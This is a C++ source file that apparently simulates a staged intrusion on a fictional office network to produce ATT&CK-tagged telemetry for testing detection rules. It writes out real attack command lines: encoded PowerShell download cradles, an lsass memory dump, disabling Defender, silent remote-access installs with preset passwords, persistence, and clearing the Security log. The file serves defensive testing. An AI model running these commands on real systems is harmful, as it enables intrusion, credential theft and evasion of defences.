// SPDX-License-Identifier: Apache-2.0
#include "core/world/intrusion.h"

#include "core/world/base64.h"
#include "core/world/intrusion_steps.h"
#include "core/world/office.h"

#include <algorithm>
#include <format>

namespace rulewright::world {

namespace {

std::string userFolder(const Desk& desk) { return std::format("C:\\Users\\{}", user(*desk.session.user).name); }

struct Foothold {
    Process office;
    Process loader; ///< the shell that the intruders work in
};

/// A macro starts a shell, which fetches code.
Foothold openInvoice(Intrusion& at, const Desk& desk, const Process& mail)
{
    const std::string document
        = std::format("{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2LX0AB\\Invoice_{}.docm",
            userFolder(desk), at.fileName);
    at.r.setAttack({"T1566.001"});
    at.r.createFile(at.soon(), mail, document);
    at.r.setAttack({"T1204.002", "T1566.001"});
    const std::string word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const Process office = at.r.start(at.soon(), mail, word, std::format("\"{}\" /n \"{}\"", word, document));
    const Process shell = at.run(office, "cmd.exe", "cmd.exe /c powershell -w hidden -nop");
    at.r.setAttack({"T1059.001"});
    const std::string code
        = std::format("IEX (New-Object Net.WebClient).DownloadString('https://{}/a')", at.controlName);
    const Process loader = at.runPowerShell(shell, std::format("-nop -w hidden -enc {}", base64OfUtf16(code)));
    at.r.query(at.soon(), loader, at.controlName, at.controlAddress);
    at.r.connect(at.soon(), loader, at.controlAddress, at.controlName, 443);
    return {office, loader};
}

void lookAround(Intrusion& at, const Process& loader)
{
    at.r.setAttack({"T1033"});
    const Process shell = at.run(loader, "cmd.exe", "C:\\Windows\\system32\\cmd.exe");
    static_cast<void>(at.run(shell, "whoami.exe", "whoami /all"));
    static_cast<void>(at.run(loader, "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\""));
    at.r.setAttack({"T1082"});
    static_cast<void>(at.run(shell, "systeminfo.exe", "systeminfo"));
    static_cast<void>(at.run(shell, "hostname.exe", "hostname"));
    at.r.setAttack({"T1069.002"});
    static_cast<void>(at.run(shell, "net.exe", "net group \"Domain Admins\" /domain"));
}

/// Fetches a portable AnyDesk, installs it without a dialog and sets its password.
void installAnyDesk(Intrusion& at, const Process& loader)
{
    const std::string portable = "C:\\Users\\Public\\AnyDesk.exe";
    const std::string installed = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe";
    at.r.setAttack({"T1105", "T1219"});
    const Process fetcher = at.runPowerShell(loader,
        std::format(
            "-c \"(New-Object Net.WebClient).DownloadFile('http://{}/ad.exe','{}')\"", at.controlName, portable));
    at.r.setAttack({"T1105", "T1219", "T1059.001"});
    at.r.connect(at.soon(), fetcher, at.controlAddress, at.controlName, 80);
    at.r.setAttack({"T1105", "T1219"});
    at.r.createFile(at.soon(), fetcher, portable);

    at.r.setAttack({"T1219", "T1219.002"});
    const Process shell = at.run(loader, "cmd.exe",
        std::format("cmd.exe /c {} --install C:\\ProgramData\\AnyDesk --start-with-win --silent", portable));
    const Process setup = at.r.start(at.soon(), shell, portable,
        std::format("{} --install C:\\ProgramData\\AnyDesk --start-with-win --create-shortcuts --silent", portable));
    at.r.createFile(at.soon(), setup, installed);
    at.r.setAttack({"T1219", "T1543.003"});
    at.r.setValue(
        at.soon(), setup, std::format("{}AnyDesk\\ImagePath", servicesKey), std::format("\"{}\" --service", installed));
    at.r.setAttack({"T1219.002"});
    at.r.changeKey(at.soon(), setup, "CreateKey", std::format("{}AnyDesk", servicesKey));
    at.r.installService(at.soon(), setup.session, "AnyDesk", std::format("\"{}\" --service", installed));
    at.r.setAttack({"T1219", "T1219.002"});
    const Process echo = at.run(loader, "cmd.exe",
        std::format("cmd.exe /c echo Larch{}! | {} --set-password", at.time / second % 1000, installed));
    const Process tool = at.r.start(at.soon(), echo, installed, std::format("{} --set-password", installed));
    for (int i = 0; i < 8; ++i) {
        at.r.setAttack({"T1219.002"});
        at.r.query(at.soon(), tool, std::format("relay-{:x}.net.anydesk.com", 0x3f1a + i), at.relayAddress);
        at.r.setAttack({"T1219", "T1219.002"});
        at.r.connect(at.soon(), tool, at.relayAddress, "-", i == 0 ? 443 : 7070);
        at.pause(4 * minute);
    }
}

void stay(Intrusion& at, const Desk& desk, const Process& loader)
{
    const std::string program = std::format("C:\\Users\\Public\\{}.exe", at.fileName);
    at.r.setAttack({"T1105"});
    static_cast<void>(at.run(loader, "certutil.exe",
        std::format("certutil.exe /urlcache /split /f http://{}/{}.bin {}", at.controlAddress, at.fileName, program)));
    at.r.setAttack({"T1547.001"});
    const std::string key = std::format(
        "HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{}", securityId(*desk.session.user), at.fileName);
    const Process reg = at.run(loader, "reg.exe",
        std::format(
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {} /d {} /f", at.fileName, program));
    at.r.setValue(at.soon(), reg, key, program);
    at.r.createFile(at.soon(), loader,
        std::format("{}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{}.vbs", userFolder(desk),
            at.fileName));
    at.r.setAttack({"T1053.005"});
    static_cast<void>(at.run(loader, "schtasks.exe",
        std::format("schtasks /create /f /sc minute /mo 30 /tn {} /tr {}", at.fileName, program)));
}

/// On the next day their program starts with the user's logon.
Process comeBack(Intrusion& at, const Desk& desk)
{
    at.r.setAttack({"T1547.001"});
    const std::string program = std::format("C:\\Users\\Public\\{}.exe", at.fileName);
    const Process started = at.r.start(at.soon(), desk.explorer, program, program);
    at.r.setAttack({"T1059.001"});
    const Process shell = at.runPowerShell(
        started, std::format("-nop -w hidden -enc {}", base64OfUtf16("while(1){iex (irm http://c/p);sleep 9}")));
    at.r.connect(at.soon(), shell, at.controlAddress, at.controlName, 443);
    return shell;
}

void blindDefender(Intrusion& at, const Desk& desk, const Process& loader)
{
    at.r.setAttack({"T1685"});
    static_cast<void>(at.runPowerShell(loader, "-c \"Set-MpPreference -DisableRealtimeMonitoring $true\""));
    for (const std::string_view value : {"DisableRealtimeMonitoring", "DisableBehaviorMonitoring"})
        at.r.setValue(at.soon(), desk.services,
            std::format("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\{}", value),
            "DWORD (0x00000001)");
}

void stealCredentials(Intrusion& at, const Desk& desk, const Process& loader)
{
    at.r.setAttack({"T1003.001", "T1218.011"});
    const Process dumper = at.run(loader, "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\PerfLogs\\lsass.dmp full");
    at.r.setAttack({"T1003.001"});
    at.r.createFile(at.soon(), dumper, "C:\\PerfLogs\\lsass.dmp");
    readCredentials(at, desk, loader, dumper);
}

void runLibrary(Intrusion& at, const Process& parent)
{
    at.r.setAttack({"T1218.011"});
    const std::string library = std::format("C:\\Users\\Public\\{}.dat", at.fileName);
    const Process process = at.run(parent, "rundll32.exe", std::format("rundll32.exe {},Start", library));
    for (int i = 0; i < 6; ++i) {
        at.r.connect(at.soon(), process, at.controlAddress, at.controlName, 443);
        at.pause(3 * minute);
    }
}

/// A tunnel through the editor that the developer has anyway: first under its name, then renamed.
void openTunnel(Intrusion& at, const Desk& desk)
{
    at.r.setAttack({"T1219.001"});
    const Process shell = at.run(desk.explorer, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    const std::string portable = "C:\\Users\\Public\\vsc\\code.exe";
    const Process tunnel = at.r.start(at.soon(), shell, portable,
        std::format("{} tunnel --accept-server-license-terms --name lark-{}", portable, at.fileName));
    at.r.createFile(at.soon(), tunnel, std::format("{}\\.vscode\\cli\\code_tunnel.json", userFolder(desk)));
    at.r.query(at.soon(), tunnel, "global.rel.tunnels.api.visualstudio.com", "192.0.2.71");
    at.r.connect(at.soon(), tunnel, "192.0.2.71", "global.rel.tunnels.api.visualstudio.com", 443);
    const std::string renamed = std::format("C:\\ProgramData\\{}.exe", at.fileName);
    const Process service = at.r.startRenamed(at.soon(), shell, renamed,
        std::format("{} tunnel service install --accept-server-license-terms", renamed), "code.exe");
    at.r.query(at.soon(), service, std::format("{}-8080.euw.devtunnels.ms", at.fileName), "192.0.2.72");
}

/// Logs on to the server from outside, installs ScreenConnect there and works through it.
Process takeServer(Intrusion& at, const Desk& server)
{
    at.r.setAttack({"T1021.001", "T1133"});
    const Session session = at.r.newSession(fileServer, backupUser);
    at.r.logOn(at.soon(), {.session = session, .type = 10, .address = at.controlAddress});
    const Process explorer
        = at.r.start(at.soon(), server.userInit, session, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");

    at.r.setAttack({"T1219.002"});
    const Process shell = at.run(explorer, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    static_cast<void>(at.run(shell, "msiexec.exe",
        std::format("msiexec /i https://{}/Bin/ScreenConnect.ClientSetup.msi /qn", at.controlName)));
    at.r.setAttack({"T1219", "T1105"});
    at.r.createFile(at.soon(), server.installer, "C:\\ProgramData\\ScreenConnect.ClientSetup.msi");
    at.r.setAttack({"T1219.002"});
    const std::string client
        = "C:\\Program Files (x86)\\ScreenConnect Client (9b1f7a)\\ScreenConnect.ClientService.exe";
    const Process service = at.r.start(at.soon(), server.services, client,
        std::format("\"{}\" \"?e=Access&y=Guest&h={}&p=8041\"", client, at.relayAddress));
    at.r.query(at.soon(), service, "instance-k2x9fd-relay.screenconnect.com", at.relayAddress);
    at.r.setAttack({"T1219", "T1219.002"});
    at.r.connect(at.soon(), service, at.relayAddress, "instance-k2x9fd-relay.screenconnect.com", 8041);
    at.r.setAttack({"T1219.002", "T1059.001"});
    const Process remote
        = at.run(service, "cmd.exe", "\"cmd.exe\" /c \"C:\\Windows\\TEMP\\ScreenConnect\\24.3.7.9067\\4fa1run.cmd\"");
    static_cast<void>(at.runPowerShell(service,
        std::format("-c \"Invoke-WebRequest http://{}/{}.dat -OutFile C:\\Users\\Public\\{}.dat\"", at.controlAddress,
            at.fileName, at.fileName)));
    at.r.setAttack({"T1033"});
    static_cast<void>(at.run(remote, "whoami.exe", "whoami"));
    runLibrary(at, remote);
    at.r.setAttack({"T1685.005"});
    static_cast<void>(at.run(remote, "wevtutil.exe", "wevtutil cl Security"));
    return remote;
}

/// A device at the reception that turns network packets into key presses.
void plugDevice(Intrusion& at, const Desk& desk)
{
    at.r.setAttack({"T1219.003"});
    const Process system = at.r.kernel(desk.morning - 2 * hour, desk.session.host);
    const std::string usb = "HKLM\\System\\CurrentControlSet\\Enum\\USB\\VID_1D6B&PID_0104\\CAFEBABE";
    at.r.setValue(at.soon(), system, usb + "\\FriendlyName", "PiKVM Composite KVM Device");
    at.r.setValue(at.soon(), system, usb + "\\ContainerID", "{6e1b2a40-91c5-5d02-8f7e-02c1a1b0d9ee}");
    at.r.setValue(at.soon(), system,
        "HKLM\\System\\CurrentControlSet\\Enum\\USBSTOR\\Disk&Ven_PiKVM&Prod_Flash_Drive&Rev_0504\\CAFEBABE&"
        "0\\FriendlyName",
        "PiKVM Flash Drive USB Device");
}

/// The machine without Sysmon: Security 4688 alone tells of it.
void crossWarehouse(Intrusion& at, const Desk& desk)
{
    at.r.setAttack({"T1059.001"});
    const Process shell
        = at.runPowerShell(desk.explorer, std::format("-nop /enc {}", base64OfUtf16("iwr https://198.51.100.9/w|iex")));
    at.r.setAttack({"T1219", "T1219.002"});
    const std::string tool = "C:\\Users\\Public\\AnyDesk.exe";
    static_cast<void>(at.r.start(
        at.soon(), shell, tool, std::format("{} --install C:\\ProgramData\\AnyDesk --start-with-win --silent", tool)));
    at.r.setAttack({"T1053.005"});
    static_cast<void>(at.run(shell, "schtasks.exe",
        std::format("schtasks.exe -create /sc onlogon /tn Updates /tr C:\\ProgramData\\{}.exe", at.fileName)));
    at.r.setAttack({"T1218.011"});
    static_cast<void>(at.run(shell, "rundll32.exe", std::format("rundll32.exe C:\\PerfLogs\\{}.dll,#1", at.fileName)));
}

} // namespace

void breakIn(Recorder& recorder, Desks& desks, std::size_t workingDay)
{
    Random& random = recorder.random();
    constexpr std::string_view names[] = {"updsvc", "hpmon", "audiodrv", "scanhelper", "dlcache", "winlogsvc"};
    constexpr std::string_view domains[]
        = {"cdn.timberquote.example", "static.oakinvoice.example", "files.larchmail.example"};
    const std::size_t next = std::min(workingDay + 1, desks.days() - 1);
    recorder.setBenign();
    Desk& sales = desks.at(salesHost, workingDay);
    const Process mail = openMail(recorder, sales);
    const Desk& again = desks.at(salesHost, next);
    const Desk& server = desks.at(fileServer, next);
    const Desk& developer = desks.at(developerHost, next);
    const Desk& reception = desks.at(receptionHost, next);
    const Desk& warehouse = desks.at(warehouseHost, next);
    const Desk& accounting = desks.at(accountingHost, next);
    const Desk& backup = desks.at(backupServer, next);
    const Desk& controller = desks.at(domainController, next);

    Intrusion at{.r = recorder};
    at.controlName = random.pick(domains);
    at.controlAddress = std::format("203.0.113.{}", random.between(2, 250));
    at.relayAddress = std::format("198.51.100.{}", random.between(100, 250));
    at.fileName = random.pick(names);
    at.time = desks.midnight(workingDay) + 10 * hour;
    const auto [office, loader] = openInvoice(at, sales, mail);
    at.pause(5 * minute);
    lookAround(at, loader);
    hideInProcesses(at, sales, loader, office);
    installAnyDesk(at, loader);
    stay(at, sales, loader);
    blindDefender(at, sales, loader);
    stealCredentials(at, sales, loader);
    proxyThroughSystem(at, sales, loader);
    exploreDomain(at, loader);

    at.time = std::max(at.time, desks.midnight(next) + 10 * hour);
    const Process shell = comeBack(at, again);
    const Process remote = takeServer(at, server);
    openTunnel(at, developer);
    plugDevice(at, reception);
    crossWarehouse(at, warehouse);
    installRustDesk(at, accounting);
    moveToServers(at, again, backup, controller, shell);
    breakIntoWebServer(at);
    takeCloudAccount(at);
    carryOff(at, again, shell);
    destroy(at, remote);
}

} // namespace rulewright::world
